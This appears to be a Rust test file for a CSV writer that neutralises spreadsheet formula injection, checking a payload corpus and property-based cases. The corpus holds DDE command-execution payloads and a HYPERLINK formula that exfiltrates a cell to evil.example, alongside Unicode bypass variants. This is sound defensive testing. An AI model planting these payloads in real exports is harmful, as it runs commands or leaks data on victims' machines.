use super::*;

fn row(cells: &[&str], defuse: bool) -> Vec<u8> {
    let mut out = Vec::new();
    write_row(cells.iter().copied(), defuse, &mut out);
    out
}

/// The oracle: the `csv` crate reads what was written.
fn read(bytes: &[u8]) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes);
    let record = reader.records().next().expect("a row").expect("reads");
    record.iter().map(str::to_owned).collect()
}

/// Payloads from CWE-1236, OWASP's page on CSV injection and reports of bypasses.
const CORPUS: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\u{202e}=1+1",
    "\u{0}=1+1",
    "\u{1f}-1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u{3000}＝1",
    "%0A=1",
    "|calc",
    "=\"a\",\"b\"",
    "-1",
    "@",
];

#[test]
fn no_cell_of_the_corpus_begins_as_a_formula() {
    for payload in CORPUS {
        let cells = read(&row(&["before", payload, "after"], true));
        assert_eq!(cells.len(), 3, "{payload:?}");
        assert_eq!(cells[1], format!("'{payload}"), "{payload:?}");
    }
}

#[test]
fn harmless_cells_stay_as_they_are() {
    for text in ["", "Ada Park", "a=b", "1-2", "'quoted", "née; ok, \"so\"\r\nnext", "2026-11-22"]
    {
        assert_eq!(read(&row(&[text, "x"], true)), [text, "x"]);
    }
}

proptest::proptest! {
    #[test]
    fn raw_cells_come_back_as_they_were(cells in proptest::collection::vec(".*", 1..6)) {
        let cells: Vec<&str> = cells.iter().map(String::as_str).collect();
        let mut with_end = cells.clone();
        with_end.push("end");
        proptest::prop_assert_eq!(read(&row(&with_end, false)), with_end);
    }

    #[test]
    fn no_defused_cell_begins_as_a_formula(cell in "[ \t\r\n\u{a0}\u{feff}]{0,3}[=+@a'-]?.{0,5}") {
        let back = read(&row(&[&cell, "end"], true));
        let first = back[0].trim_start().chars().next();
        proptest::prop_assert!(!matches!(first, Some('=' | '+' | '-' | '@')), "{:?}", back[0]);
        proptest::prop_assert!(!back[0].starts_with(['\t', '\r', '\n']));
    }
}
